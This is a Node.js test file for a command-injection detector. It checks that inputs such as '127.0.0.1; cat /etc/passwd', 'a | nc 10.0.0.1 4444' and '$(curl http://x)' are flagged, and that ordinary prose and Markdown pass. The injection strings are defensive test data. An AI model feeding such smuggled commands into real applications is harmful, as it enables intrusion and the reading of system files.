import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectCommand } from '../../../../../daemon/security/threats/command.js';

describe('command injection', () => {
  test('flags a separator or substitution followed by a command', () => {
    for (const input of ['127.0.0.1; cat /etc/passwd', 'x && whoami', 'a | nc 10.0.0.1 4444', 'file`id`', 'q=$(curl http://x)', 'x || ping -c 3 10.0.0.1', 'a;ls -la', 'name\nuname -a']) {
      assert.equal(detectCommand(input)?.type, 'command_injection', input);
    }
  });

  test('leaves prose, Markdown and passwords alone', () => {
    for (const input of ["it's 5 o'clock; let's go", 'Tom & Jerry', 'Rock & roll; cat lovers unite', 'make `words` use `random_choices`', 'K#8"q;Lz\'p(9)|w', 'cats | dogs', 'find me; type later', 'Run `ls -la` first', 'Use `rm -rf build` to clean', 'a;SH', 'x|Rm']) {
      assert.equal(detectCommand(input), null, input);
    }
  });
});
